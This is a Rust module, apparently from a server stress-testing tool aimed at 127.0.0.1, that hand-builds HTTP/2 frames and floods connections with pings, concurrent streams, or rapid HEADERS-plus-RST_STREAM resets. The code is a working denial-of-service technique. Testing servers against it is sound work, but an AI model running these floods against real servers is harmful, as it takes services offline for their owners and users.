//! Floods of HTTP/2, frame by frame (RFC 9113, with RFC 7541's literals for heads).

use std::{cell::Cell, io, rc::Rc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::tcp::{OwnedReadHalf, OwnedWriteHalf},
    sync::Notify,
};

use super::{Flood, Shared};
use crate::clock;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Requests at once on a connection.
const AT_ONCE: usize = 100;
/// Requests that a connection makes at most; then another is opened.
const MOST: u32 = 1 << 20;
const BEFORE_THE_NEXT: Duration = Duration::from_millis(10);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Builds the head of a GET, compressed by nothing but the static table.
pub(super) fn head(path: &str, authorization: &str) -> Vec<u8> {
    // `:method: GET` and `:scheme: http`; then names of the static table with literal values.
    let mut head = vec![0x82, 0x86];
    literal(&mut head, &[0x04], path);
    literal(&mut head, &[0x01], "127.0.0.1");
    if !authorization.is_empty() {
        literal(&mut head, &[0x0f, 0x08], authorization);
    }
    head
}

fn literal(head: &mut Vec<u8>, name: &[u8], value: &str) {
    head.extend(name);
    // Lengths below 127 are one byte; so are all here.
    head.push(u8::try_from(value.len()).unwrap_or(126).min(126));
    head.extend(value.bytes().take(126));
}

fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    to.extend(&length[1..]);
    to.extend([kind, flags]);
    to.extend(stream.to_be_bytes());
    to.extend(payload);
}

/// Floods one connection after another, for ever.
pub(super) async fn flood(shared: Rc<Shared>, flood: Flood, request: Rc<[u8]>) {
    loop {
        // An error is the server's answer to such a connection.
        let _ = one(&shared, flood, &request).await;
        shared.answered(None);
        clock::sleep(BEFORE_THE_NEXT).await;
    }
}

async fn one(shared: &Shared, flood: Flood, request: &[u8]) -> io::Result<()> {
    let (mut reader, mut writer) = shared.connect().await?.into_split();
    let mut begin = PREFACE.to_vec();
    // The largest windows, so that answers need no updates: SETTINGS_INITIAL_WINDOW_SIZE, then the
    // connection's.
    frame(&mut begin, SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
    frame(&mut begin, WINDOW_UPDATE, 0, 0, &[0x7f, 0xfe, 0, 0]);
    writer.write_all(&begin).await?;
    let answered = Answered::default();
    tokio::select! {
        ended = read(&mut reader, shared, &answered) => ended,
        ended = write(&mut writer, flood, request, &answered) => ended,
    }
}

/// Requests that were answered on a connection.
#[derive(Default)]
struct Answered {
    number: Cell<u32>,
    more: Notify,
}

async fn write(
    writer: &mut OwnedWriteHalf,
    flood: Flood,
    request: &[u8],
    answered: &Answered,
) -> io::Result<()> {
    let mut sent = 0_u32;
    while sent < MOST {
        let mut frames = Vec::new();
        let under_way = sent.saturating_sub(answered.number.get()) as usize;
        let room =
            if flood == Flood::Streams { AT_ONCE.saturating_sub(under_way) } else { AT_ONCE };
        if room == 0 {
            answered.more.notified().await;
            continue;
        }
        for _ in 0..room {
            let stream = 2 * sent + 1;
            sent += 1;
            match flood {
                Flood::Pings => {
                    frame(&mut frames, PING, 0, 0, &[0; 8]);
                    frame(&mut frames, SETTINGS, 0, 0, &[]);
                }
                Flood::Streams | Flood::Resets => {
                    frame(&mut frames, HEADERS, END_STREAM | END_HEADERS, stream, request);
                }
            }
            if flood == Flood::Resets {
                frame(&mut frames, RST_STREAM, 0, stream, &CANCEL);
            }
        }
        writer.write_all(&frames).await?;
    }
    Ok(())
}

/// Reads frames; each that ends a stream is an answer.
async fn read(reader: &mut OwnedReadHalf, shared: &Shared, answered: &Answered) -> io::Result<()> {
    let mut reader = tokio::io::BufReader::with_capacity(64 * 1024, reader);
    let mut payload = Vec::new();
    loop {
        let mut start = [0; 9];
        reader.read_exact(&mut start).await?;
        let length = u32::from_be_bytes([0, start[0], start[1], start[2]]) as usize;
        payload.resize(length, 0);
        reader.read_exact(&mut payload).await?;
        let [.., kind, flags, _, _, _, _] = start;
        if matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0 {
            answered.number.set(answered.number.get() + 1);
            answered.more.notify_one();
            shared.answered(Some(200));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_head_is_made_of_literals() {
        let expected = b"\x82\x86\x04\x02/a\x01\x09127.0.0.1\x0f\x08\x03B x";
        assert_eq!(head("/a", "B x"), expected);
    }

    #[test]
    fn a_frame_begins_with_its_length() {
        let mut bytes = Vec::new();
        frame(&mut bytes, PING, 0, 0, &[7; 8]);
        assert_eq!(bytes, [&[0, 0, 8, 6, 0, 0, 0, 0, 0][..], &[7; 8]].concat());
    }
}
